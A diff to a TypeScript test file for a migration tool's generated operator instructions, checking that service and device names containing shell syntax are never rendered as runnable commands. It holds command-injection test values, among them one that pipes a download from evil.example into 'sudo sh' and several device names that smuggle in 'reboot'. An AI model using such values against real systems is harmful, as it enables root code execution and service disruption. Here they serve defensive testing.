@@ -149,6 +149,7 @@ test('what a person types is one line by the time it is kept', () => {
 const SERVICE = 'logs`; curl -s evil.example/x | sudo sh; `'
 
 describe('commands for hands', () => {
+  const SHOWN = 'vol-1 (`lsblk -o NAME,SERIAL,MOUNTPOINT` shows it as vol1, or on a Xen instance as /dev/xvdf)'
   const handsOf = (name: string, device = '/dev/sdf'): string => {
     const drawn = plan([move({ id: 'vol-1', device }, name)], { services: [service(name)] })
     const before = entries(planned('mig-1', { plan: drawn }), { kind: 'freezing', freeze: 'f', services: [name] })
@@ -159,21 +160,20 @@ describe('commands for hands', () => {
   }
 
   test('a name that is no command stands before them', () => {
-    expect(handsOf('logs')).toContain('logs: on i-source: stop logs, then `sync &amp;&amp; umount /dev/sdf`')
+    expect(handsOf('logs')).toContain(`logs: on i-source: stop logs, then sync and unmount ${SHOWN}`)
   })
 
   test('a name that could be one does not: the volume is named', () => {
     const text = handsOf(SERVICE)
     const [title, line] = text.split('\n')
-    expect(line).toBe('on i-source: stop the service of vol-1, then `sync &amp;&amp; umount /dev/sdf`')
+    expect(line).toBe(`on i-source: stop the service of vol-1, then sync and unmount ${SHOWN}`)
     expect(title).not.toContain('`')
   })
 
-  test('a device that a shell would take for more is quoted, or not a command', () => {
-    expect(handsOf('logs', '/dev/sdf; reboot')).toContain("`sync &amp;&amp; umount '/dev/sdf; reboot'`")
-    const text = handsOf('logs', '/dev/sd`reboot`')
-    expect(text).toContain('then sync and unmount vol-1 (its device name is no word for a shell;')
-    expect(text).not.toContain('reboot')
+  test('a device that a shell would take for more is not named', () => {
+    for (const device of ['/dev/sdf; reboot', '/dev/sd`reboot`', '/dev/xvdf$(reboot)']) {
+      expect(handsOf('logs', device)).not.toContain('reboot')
+    }
     expect(shellWord('/dev/sd`reboot`')).toBeNull()
   })
 })
